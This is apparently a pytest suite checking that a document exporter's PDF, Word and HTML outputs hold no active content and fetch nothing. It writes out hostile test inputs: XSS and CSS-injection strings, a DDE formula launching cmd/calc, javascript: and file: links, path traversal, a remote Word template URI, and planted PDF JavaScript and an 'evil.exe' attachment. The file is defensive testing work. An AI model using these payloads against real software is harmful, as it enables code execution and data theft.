"""S7 on everything there is to export: nothing in an output acts, and a browser that opens a page asks for nothing."""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import active
import pytest
from browser import Browser
from commands import run
from installed import PROFILES
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from tools import program

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.slow

CASES = Path(__file__).parent.parent / "data" / "cases"
EVIL = {
    "basics": {
        "name": "Eve <script src=//a.b></script>", "label": "=cmd|'/C calc'!A0", "image": "http://127.0.0.1:9/a.png",
        "email": "a@b.c?attach=/etc/passwd", "url": "javascript:1", "phone": "tel:1;ext=//a.b",
        "summary": "![a](http://127.0.0.1:9/b.png) [x](file:///c) <img src=//a.b/c> [y](https://a.b/'onclick=1) "
        "{ DDEAUTO c:\\\\windows\\\\cmd.exe } <?xml-stylesheet href='//a.b'?> <link rel=stylesheet href=//a.b>",
        "profiles": [{"network": "GitHub", "username": "../x", "url": "\\\\server\\share"}],
    },
    "work": [{"name": "url(http://127.0.0.1:9/d)", "url": "ms-word:ofe|u|http://a.b/c.dotm"}],
    "publications": [{"name": "</style><style>@import '//a.b'", "doi": '10.1/"><img src=x onerror=1>'}],
}  # fmt: skip


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with the outputs of every example, every case and a hostile profile."""
    folder = tmp_path_factory.mktemp("corpus")
    shutil.copytree(PROFILES, folder / "in", ignore=shutil.ignore_patterns("*.schema.json"))
    for path in CASES.iterdir():
        shutil.copy(path, folder / "in")
    (folder / "in" / "evil.json").write_text(json.dumps(EVIL), encoding="utf-8")
    words = ["--to", "pdf,docx,html", "-l", "all", "-o", "out", "--allow-missing-glyphs"]
    done = run(folder, "batch", "in", *words)
    assert done.code in {0, 1}, done.err
    assert len(list((folder / "out").rglob("evil*"))) == 3
    return folder / "out"


def test_no_word_document_holds_anything_that_acts(outputs: Path) -> None:
    found = {path.name: active.in_docx(path.read_bytes()) for path in outputs.rglob("*.docx")}
    assert found
    assert {name: each for name, each in found.items() if each} == {}


def test_no_pdf_holds_anything_that_acts(outputs: Path) -> None:
    found = {path.name: active.in_pdf(path.read_bytes()) for path in outputs.rglob("*.pdf")}
    assert found
    assert {name: each for name, each in found.items() if each} == {}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    program("chromium")
    opened = Browser()
    yield opened
    opened.close()


def test_a_browser_that_opens_a_page_asks_for_nothing_else(outputs: Path, browser: Browser) -> None:
    pages = sorted(outputs.rglob("*.html"))
    assert pages
    for path in pages:
        browser.requests.clear()
        browser.open(path.as_uri())
        browser.wait("document.readyState === 'complete'")
        # The fonts and the portrait are part of the page.
        asked = [each for each in browser.requests if not each.startswith("data:")]
        assert asked == [path.as_uri()]


def test_what_acts_in_a_word_document_is_seen(outputs: Path) -> None:
    content = next(outputs.rglob("evil*.docx")).read_bytes()
    planted = {
        "word/vbaProject.bin": "the part word/vbaProject.bin",
        "word/embeddings/oleObject1.bin": "the part word/embeddings/oleObject1.bin",
    }
    for name, told in planted.items():
        assert told in active.in_docx(changed(content, {name: b"x"}))
    document = read(content, "word/document.xml")
    field = b"<w:r><w:instrText>DDEAUTO c:\\x</w:instrText></w:r></w:p>"
    assert any("DDEAUTO" in each for each in active.in_docx(changed(content, {
        "word/document.xml": document.replace(b"</w:p>", field, 1)})))  # fmt: skip
    links = read(content, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="z" Type="a/attachedTemplate" Target="http://a.b/c.dotm" TargetMode="External"/>'
        b"</Relationships>",
    )
    assert any("c.dotm" in each for each in active.in_docx(changed(content, {"word/_rels/document.xml.rels": links})))


def test_what_acts_in_a_pdf_is_seen(outputs: Path) -> None:
    writer = PdfWriter(PdfReader(io.BytesIO(next(outputs.rglob("evil*.pdf")).read_bytes())))
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    writer.add_attachment("evil.exe", b"MZ")
    written = io.BytesIO()
    writer.write(written)
    found = active.in_pdf(written.getvalue())
    assert "the key /OpenAction" in found
    assert "the action /JavaScript" in found
    assert "the attachment evil.exe" in found


def test_what_a_page_asks_for_is_seen(outputs: Path, browser: Browser) -> None:
    path = outputs / "asking.html"
    path.write_text("<img src='http://127.0.0.1:9/a.png'>", encoding="utf-8")
    browser.requests.clear()
    browser.open(path.as_uri())
    browser.wait("document.readyState === 'complete'")
    path.unlink()
    assert "http://127.0.0.1:9/a.png" in browser.requests


def read(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read(name)


def changed(content: bytes, parts: dict[str, bytes]) -> bytes:
    """Return a package with parts added or replaced."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as package, zipfile.ZipFile(written, "w") as made:
        for name in {*package.namelist()} - {*parts}:
            made.writestr(name, package.read(name))
        for name, each in parts.items():
            made.writestr(name, each)
    return written.getvalue()
